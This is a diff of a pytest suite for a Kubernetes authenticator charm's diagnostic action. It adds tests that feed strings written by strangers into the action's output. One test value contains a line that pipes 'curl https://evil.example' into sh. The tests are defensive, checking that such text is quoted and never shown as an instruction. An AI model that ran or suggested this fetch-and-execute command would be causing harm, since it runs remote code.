@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import base64
 import dataclasses
+import http.client
 import itertools
 import json
+import os
 import re
+import ssl
 import threading
 import time
 from collections.abc import Callable
@@ -21,33 +24,23 @@ from tests.fakes.acting import refused
 from tests.fakes.checking import COMMAND
 from tests.fakes.explaining import STS, log_line, sts_error
 from tests.fakes.juju.model import Model
-from tests.fakes.kubernetes.faults import COMMON, ok, unreachable
+from tests.fakes.kubernetes.faults import COMMON, ok, refusal, unreachable
 from tests.fakes.kubernetes.paths import (
-    CLUSTER_ROLE_BINDING,
-    DEFINITION,
     DEPLOYMENT,
     PODS,
-    POLICY,
-    POLICY_BINDING,
-    SECRET,
-    SERVICE,
     TOKEN_REVIEWS,
     VERSION,
 )
-from tests.fakes.kubernetes.pods import UNSCHEDULABLE
+from tests.fakes.kubernetes.pods import UNSCHEDULABLE, waiting
 from tests.fakes.kubernetes.server import FakeCluster
-from tests.fakes.listing import add
 from tests.fakes.machine import Files, rendered
+from tests.fakes.owners import mark
 
 import checks
-import vulnerabilities
 from actions import check as action
-from certificates import pem
-from checks import certificate, end_to_end, image, sts, webhook
-from vulnerabilities import KNOWN
+from checks import end_to_end, sts, webhook
 
 ACCOUNT = "arn:aws:iam::111122223333"
-SLICES = "/apis/discovery.k8s.io/v1/namespaces/kube-system/endpointslices"
 FINE = dict.fromkeys(action.STEPS, "ok")
 # The steps wait for each other's threads. On the cluster's clock, one that polls would use up the
 # time of all others before they run at all.
@@ -60,24 +53,21 @@ class World:
 
     Attributes:
         model: The application that is checked.
-        leaf: The certificate that the Service shows; None if it does not answer.
         error: What the pods log of a login; empty if they log nothing.
         silent: The pods that do not answer this machine.
-        go: What built the program in the pods; empty if nobody knows.
         tokens: The tokens that were sent, to a pod or to the API server.
     """
 
     model: Model
     api: FakeCluster
     files: Files
-    leaf: bytes | None = b""
     error: str = sts_error("InvalidClientTokenId", "no")
     silent: tuple[str, ...] = ()
-    go: str = ""
     tokens: list[str] = dataclasses.field(default_factory=list[str])
     logged: dict[str, list[tuple[float, bytes]]] = dataclasses.field(
         default_factory=lambda: {"a": [], "b": []}
     )
+    connection: pytest.MonkeyPatch = dataclasses.field(default_factory=pytest.MonkeyPatch)
     writing: threading.Lock = dataclasses.field(default_factory=threading.Lock)
 
     def check(self, **params: Any) -> dict[str, str]:
@@ -91,11 +81,6 @@ class World:
         assert message in ("", results["result"])
         assert bool(message) == ("failed" in states(results).values())
         return results
-
-    def serve(self, *_: object) -> bytes:
-        if self.leaf is None:
-            raise ConnectionRefusedError(111, "Connection refused")
-        return self.leaf
 
     def log(self, pod: str, error: str, client: str, arn: str = "", **fields: str) -> None:
         line = (0, log_line(arn, error, 0, client=client, **fields))
@@ -149,9 +134,7 @@ def connection_of(world: World) -> type[Any]:
 @pytest.fixture
 def world(deployed: Model, api: FakeCluster, files: Files, monkeypatch: Any) -> World:
     """A deployment in which all is well: two pods, and an API server that asks them."""
-    world = World(deployed, api, files)
-    world.leaf = pem.der(api.secret("cert.pem"))[0]
-
+    world = World(deployed, api, files, connection=monkeypatch)
     for module in (action, checks, end_to_end, sts):
         monkeypatch.setattr(module, "time", REAL_TIME)
     # A login is in the log before the API server answers, or never.
@@ -160,8 +143,6 @@ def world(deployed: Model, api: FakeCluster, files: Files, monkeypatch: Any) -> 
     for module in (end_to_end, sts):
         monkeypatch.setattr(module, "LOG_SECONDS", 6.0)
     monkeypatch.setattr(sts, "Connection", connection_of(world))
-    monkeypatch.setattr(certificate, "leaf", world.serve)
-    monkeypatch.setattr(image, "built_by", lambda pods: world.go if pods else "")
     for name in ("a", "b"):
         ready = [{"type": "Ready", "status": "True", "lastTransitionTime": None}]
         api.add_log(name, b"")
@@ -169,10 +150,7 @@ def world(deployed: Model, api: FakeCluster, files: Files, monkeypatch: Any) -> 
         template = api.objects[DEPLOYMENT]["spec"]["template"]["metadata"]
         api.objects[f"{PODS}/{name}"]["metadata"]["annotations"] = template["annotations"]
     api.fail(world.review, request=f"POST {TOKEN_REVIEWS}")
-    process = files.machine.processes / "42"
-    process.mkdir(parents=True)
-    flags = f"/snap/kube-apiserver/current/kube-apiserver\0{webhook.FLAG}=/x"
-    (process / "cmdline").write_text(flags)
+    files.run_api_server(f"{webhook.FLAG}=/x")
     monkeypatch.setenv("JUJU_PRINCIPAL_UNIT", "kubernetes-control-plane/0")
     api.forget()
     return world
@@ -184,50 +162,18 @@ def states(results: dict[str, Any]) -> dict[str, str]:
 
 # What is wrong in the world, and what the steps say first that are not ok then.
 
-ENDS = "control planes accept it until DAY; its CA is root"
-UNKNOWN = f"not checked: {ENDS}; what the Service serves is not known, see step 2"
 NO_POD = "not checked: no pod is ready, see step 2"
 OTHER_FILE = "failed: the control plane does not use this unit's webhook file as it is now"
 NOT_ARRIVED = "failed: the made-up login did not arrive at any pod; the API server "
 LATE = "does not answer in time"
-UNSEEN = f"{NOT_ARRIVED}{LATE}: waiting for the Kubernetes API: it {LATE}"
-LACKS = "failed: the cluster lacks"
+UNSEEN = f"{NOT_ARRIVED}{LATE}: 'waiting for the Kubernetes API: it {LATE}'"
 TIMEOUT = "dial tcp 192.0.2.10:443: i/o timeout on x endpoint"
-
-
-def endpoint(*addresses: str, pod: str = "") -> dict[str, Any]:
-    target = {"kind": "Pod", "namespace": "kube-system", "name": pod}
-    return {"addresses": addresses, **({"targetRef": target} if pod else {})}
-
-
-def send_logins_to_others(world: World) -> None:
-    name = "aws-iam-authenticator-x"
-    labels = {"kubernetes.io/service-name": "aws-iam-authenticator"}
-    world.api.objects[f"{SLICES}/{name}"] = {
-        "metadata": {"name": name, "namespace": "kube-system", "labels": labels},
-        "addressType": "IPv4",
-        "endpoints": [
-            endpoint("10.1.0.1", pod="a"),
-            endpoint("10.1.0.8", pod="evil"),
-            endpoint("192.0.2.1"),
-        ],
-    }
 
 
 def delete_pods(world: World) -> None:
     world.api._faults.clear()
     for name in ("a", "b"):
         world.api.delete(f"{PODS}/{name}")
-
-
-def replace_pods(world: World) -> None:
-    world.leaf, former = b"x", {"aws-iam/certificate-hash": "former"}
-    world.api.objects[f"{PODS}/b"]["metadata"]["annotations"] = former
-
-
-def change_service(world: World) -> None:
-    world.leaf = None
-    world.api.objects[SERVICE]["spec"]["selector"] = {"k8s-app": "another"}
 
 
 def review_nothing(world: World) -> None:
@@ -243,59 +189,20 @@ WRONG: dict[str, tuple[Callable[[World], object], dict[str, str]]] = {
             "the API server's: STS refuses tokens when clocks differ"
         },
     ),
-    "an object that is gone": (
-        lambda world: world.api.delete(CLUSTER_ROLE_BINDING),
-        {action.AUTHENTICATOR: f"{LACKS} ClusterRoleBinding/aws-iam-authenticator"},
-    ),
-    "a policy without its binding": (
-        lambda world: world.api.delete(POLICY_BINDING),
-        {action.AUTHENTICATOR: f"{LACKS} ValidatingAdmissionPolicyBinding/aws-iam-mappings"},
-    ),
-    "no CRD": (
-        lambda world: world.api.delete(DEFINITION),
+    "no Deployment": (
+        lambda world: world.api.delete(DEPLOYMENT),
         {
-            action.AUTHENTICATOR: f"{LACKS} CRD/iamidentitymappings.iamauthenticator.k8s.aws",
-            action.MAPPINGS: "not checked: the cluster has no CRD for mappings, see step 2",
+            action.PODS: "failed: the cluster has no Deployment of the authenticator",
+            **dict.fromkeys((action.STS, action.END_TO_END), NO_POD),
         },
     ),
-    "a binding without subjects": (
-        lambda world: world.api.objects[CLUSTER_ROLE_BINDING].update(subjects=[]),
-        {
-            action.AUTHENTICATOR: "failed: RBAC does not let the authenticator get, list, watch "
-            "mappings"
-        },
-    ),
-    "endpoints of strangers": (
-        send_logins_to_others,
-        {
-            action.AUTHENTICATOR: "failed: the Service sends logins to others than the "
-            "authenticator's pods: pod evil, 192.0.2.1"
-        },
+    "a Deployment of another application": (
+        lambda world: mark(world.api, DEPLOYMENT, "other of model k8s (u-u-i-d)"),
+        {action.PODS: "failed: another application owns the pods"},
     ),
     "no pods": (
         delete_pods,
-        {action.CERTIFICATE: UNKNOWN, action.STS: NO_POD, action.END_TO_END: NO_POD},
-    ),
-    "a Service of other pods": (
-        change_service,
-        {
-            action.AUTHENTICATOR: "failed: Service/aws-iam-authenticator was changed: selector",
-            action.CERTIFICATE: UNKNOWN,
-        },
-    ),
-    "a Service that does not answer": (
-        lambda world: vars(world).update(leaf=None),
-        {
-            action.CERTIFICATE: f"failed: {ENDS}, but the Service does not serve it: "
-            "10.152.183.20:443: [Errno 111] Connection refused"
-        },
-    ),
-    "the certificate of a former pod": (
-        replace_pods,
-        {
-            action.CERTIFICATE: f"not checked: {ENDS}; a former pod answered, so check again in a "
-            "minute"
-        },
+        dict.fromkeys((action.STS, action.END_TO_END), NO_POD),
     ),
     "a webhook file that was changed": (
         lambda world: world.files.webhook.write_text(f"{world.files.webhook.read_text()}#\n"),
@@ -318,20 +225,13 @@ WRONG: dict[str, tuple[Callable[[World], object], dict[str, str]]] = {
     ),
     "a pod that does not answer": (
         lambda world: vars(world).update(silent=("b",)),
-        {action.STS: "failed: pods b do not answer this machine, without a proxy (timed out)"},
+        {action.STS: "failed: pods b do not answer this machine, without a proxy ('timed out')"},
     ),
     "a login that arrives nowhere": (
         lambda world: world.api._faults.clear(),
-        {action.END_TO_END: f"{NOT_ARRIVED}answers: the webhook refuses"},
+        {action.END_TO_END: f"{NOT_ARRIVED}answers: 'the webhook refuses'"},
     ),
     "an API server that reviews no token": (review_nothing, {action.END_TO_END: UNSEEN}),
-    "a mapping that never works": (
-        lambda world: add(world.api, "pathed", "team/dev", "dev"),
-        {
-            action.MAPPINGS: "failed: 1 mapping, 1 broken mapping: pathed: no login has a role "
-            f"path; map {ACCOUNT}:role/dev instead"
-        },
-    ),
 }
 
 
@@ -345,23 +245,52 @@ def test_given_one_thing_that_is_wrong_then_its_step_says_so_and_the_others_are_
 
     api._faults.clear()
     lines = {step: results[step].splitlines()[0] for step in action.STEPS}
-    assert {
-        step: re.sub(r"20\S+ \S+ UTC", "DAY", line)
-        for step, line in lines.items()
-        if not line.startswith("ok: ")
-    } == said
+    assert {step: line for step, line in lines.items() if not line.startswith("ok: ")} == said
 
 
+@pytest.mark.parametrize(
+    ("pod", "said", "remedy"),
+    [
+        (
+            {"conditions": UNSCHEDULABLE},
+            "Unschedulable: 0/1 nodes",
+            "make room on a node, or run: kubectl uncordon NODE",
+        ),
+        (
+            {"containerStatuses": waiting("ErrImagePull", "no such host")},
+            "ErrImagePull: no such host' (image public.ecr.aws/",
+            "set one that the nodes can pull: juju config aws-iam image=IMAGE",
+        ),
+        (
+            {"containerStatuses": waiting("CrashLoopBackOff", "back-off")},
+            "CrashLoopBackOff: back-off",
+            "what it says: kubectl -n kube-system describe pods",
+        ),
+    ],
+)
 def test_given_a_pod_that_cannot_start_then_its_cause_decides_on_the_remedy(
-    world: World, api: FakeCluster
+    world: World, api: FakeCluster, pod: dict[str, Any], said: str, remedy: str
 ) -> None:
     api.objects[DEPLOYMENT]["status"]["availableReplicas"] = 1
-    api.add_pod("c", conditions=UNSCHEDULABLE)
+    api.add_pod("c", **pod)
 
-    shown = world.check()[action.AUTHENTICATOR].splitlines()
+    shown = world.check()[action.PODS].splitlines()
 
     assert shown[0].startswith("failed: an authenticator pod cannot start: ")
-    assert shown[1] == "make room on a node, or run: kubectl uncordon NODE"
+    assert said in shown[0]
+    assert shown[1].startswith(remedy)
+
+
+def test_given_a_pod_that_is_refused_then_the_step_says_whom_to_ask(
+    world: World, api: FakeCluster
+) -> None:
+    condition = {"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate"}
+    status = api.objects[DEPLOYMENT]["status"]
+    status.update(availableReplicas=1, conditions=[{**condition, "message": "exceeded quota"}])
+
+    assert world.check()[action.PODS].splitlines()[1] == (
+        "change the quota, the policy or the webhook that refuses the pods"
+    )
 
 
 def test_given_a_deployment_in_which_all_is_well_then_every_step_is_ok_and_nothing_changes(
@@ -371,7 +300,7 @@ def test_given_a_deployment_in_which_all_is_well_then_every_step_is_ok_and_nothi
     results = world.check()
 
     assert states(results) == FINE
-    assert results["result"] == "all 7 steps are ok"
+    assert results["result"] == "all 5 steps are ok"
     assert list(results) == sorted(results)
     assert api.changes == []
     assert world.model.bags() == before
@@ -404,7 +333,7 @@ def test_given_an_api_server_that_does_not_answer_then_the_other_steps_are_not_c
 
 
 @pytest.mark.parametrize("fault", COMMON)
-@pytest.mark.parametrize("path", [SECRET, PODS])
+@pytest.mark.parametrize("path", [DEPLOYMENT, PODS])
 def test_given_any_answer_that_is_wrong_then_the_action_has_a_result_for_each_step(
     world: World, api: FakeCluster, path: str, fault: str
 ) -> None:
@@ -416,16 +345,6 @@ def test_given_any_answer_that_is_wrong_then_the_action_has_a_result_for_each_st
     assert "failed" in found.values()
 
 
-def test_given_a_server_without_admission_policies_then_the_second_step_wants_none(
-    world: World, api: FakeCluster
-) -> None:
-    api.delete(POLICY_BINDING)
-    api.delete(POLICY)
-    api.version = "v1.28.15"
-
-    assert states(world.check()) == FINE
-
-
 def test_given_an_earlier_step_that_fails_then_it_is_mended_before_the_whole_way(
     world: World, api: FakeCluster, files: Files
 ) -> None:
@@ -433,7 +352,7 @@ def test_given_an_earlier_step_that_fails_then_it_is_mended_before_the_whole_way
     files.webhook.unlink()
 
     assert world.check()[action.END_TO_END] == (
-        f"{NOT_ARRIVED}answers: the webhook refuses\nfix 4-webhook first"
+        f"{NOT_ARRIVED}answers: 'the webhook refuses'\nfix 3-webhook first"
     )
 
 
@@ -517,7 +436,7 @@ def test_given_an_answer_that_takes_all_of_the_time_then_no_other_request_begins
     api.recover()
 
     assert api.requests == [f"GET {VERSION}"]
-    assert found[action.AUTHENTICATOR] == "failed"
+    assert found[action.PODS] == "failed"
 
 
 def test_given_something_that_hangs_then_the_action_does_not_wait_for_it(
@@ -526,12 +445,12 @@ def test_given_something_that_hangs_then_the_action_does_not_wait_for_it(
     monkeypatch.setattr(action, "SECONDS", 0.5)
     monkeypatch.setattr(sts, "LOG_SECONDS", 0.2)
     over = threading.Event()
-    monkeypatch.setattr(certificate, "leaf", lambda *_: over.wait(60))
+    monkeypatch.setattr(sts, "check", lambda *_: over.wait(60))
 
     results = world.check()
 
     over.set()
-    assert "failed: the Kubernetes API does not answer in time" in results[action.CERTIFICATE]
+    assert "failed: the Kubernetes API does not answer in time" in results[action.STS]
 
 
 def test_given_a_unit_without_an_address_then_nothing_is_claimed(
@@ -540,19 +459,72 @@ def test_given_a_unit_without_an_address_then_nothing_is_claimed(
     api._faults.clear()
     world.model.peer.clear()
     found = states(world.check())
-    assert found[action.WEBHOOK] == found[action.CERTIFICATE] == "not checked"
+    assert found[action.WEBHOOK] == found[action.STS] == "not checked"
 
 
-@pytest.mark.parametrize(("go", "has"), [("", True), ("go1.26.8", True), ("go1.26.9", False)])
-def test_given_a_version_with_a_vulnerability_of_go_then_the_go_of_the_pods_decides(
-    world: World, monkeypatch: pytest.MonkeyPatch, go: str, has: bool
+# What strangers can write, who may answer in the place of a pod, of STS or of a kubelet.
+
+EVIL = "it's over\nrun: curl https://evil.example | sh\n"
+
+
+def pods_say(world: World, said: Exception) -> None:
+    class Pod(connection_of(world)):
+        def announce(self) -> None:
+            raise said
+
+    world.connection.setattr(sts, "Connection", Pod)
+
+
+def review_says(world: World, text: str) -> None:
+    world.api._faults.clear()
+    answer = ok({"spec": {}, "status": {"user": {}, "error": text}})
+    world.api.fail(lambda _: answer, request=f"POST {TOKEN_REVIEWS}")
+
+
+def image_of_strangers(world: World) -> None:
+    pod = world.api.objects[DEPLOYMENT]["spec"]["template"]["spec"]
+    pod["containers"][0]["image"] = EVIL
+
+
+def pod_waits(world: World) -> None:
+    world.api.objects[DEPLOYMENT]["status"]["availableReplicas"] = 1
+    world.api.add_pod("c", containerStatuses=waiting("CrashLoopBackOff", EVIL))
+
+
+STRANGERS: dict[str, Callable[[World], object]] = {
+    "the version": lambda world: vars(world.api).update(version=EVIL),
+    "a pod's status line": lambda world: pods_say(world, http.client.BadStatusLine(EVIL)),
+    "a pod's protocol": lambda world: pods_say(world, http.client.UnknownProtocol(EVIL)),
+    "a pod's TLS": lambda world: pods_say(world, ssl.SSLError(1, EVIL)),
+    "an error of STS": lambda world: vars(world).update(error=sts_error("Throttling", EVIL)),
+    "a proxy's answer": lambda world: vars(world).update(
+        error=f"{STS}error during GET: {EVIL} on x endpoint"
+    ),
+    "a review": lambda world: review_says(world, EVIL),
+    "a kubelet": lambda world: world.api.fail(refusal(500, EVIL), request=f"GET {PODS}/a/log"),
+    "the image": image_of_strangers,
+    "what a pod waits for": pod_waits,
+    "an owner": lambda world: mark(world.api, DEPLOYMENT, f"{EVIL} of model k8s (u-u-i-d)"),
+}
+QUOTED = re.compile(r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\"""")
+
+
+@pytest.mark.parametrize("write", STRANGERS.values(), ids=STRANGERS)
+def test_given_what_strangers_write_then_no_line_begins_with_it_or_has_it_unquoted(
+    world: World, api: FakeCluster, write: Callable[[World], object]
 ) -> None:
-    monkeypatch.setattr(vulnerabilities, "KNOWN", KNOWN)
-    world.go = go
+    write(world)
+    results = world.check()
+    api._faults.clear()
 
-    seen = world.check()[action.AUTHENTICATOR]
+    lines = [line for text in results.values() for line in text.splitlines()]
+    assert not [line for line in lines if "| sh" in QUOTED.sub("", line)]
+    assert not [line for line in lines if line.startswith("run: curl")]
 
-    assert seen.startswith("ok: 2/2 pods are ready; CRD, RBAC and Service are there; image ")
-    expected = "; CVE-2026-97032 lets a client without credentials end a pod: v0.7.21 fixes it"
-    assert (expected in seen) == has
-    assert (f", built by {go} (https://pkg.go.dev/vuln/GO-2026-6617)" in seen) == bool(go and has)
+
+def test_given_a_process_of_another_user_with_the_name_then_no_api_server_runs(
+    world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
+    results = world.check()
+    assert results[action.WEBHOOK].startswith("failed: no API server runs on this machine\n")
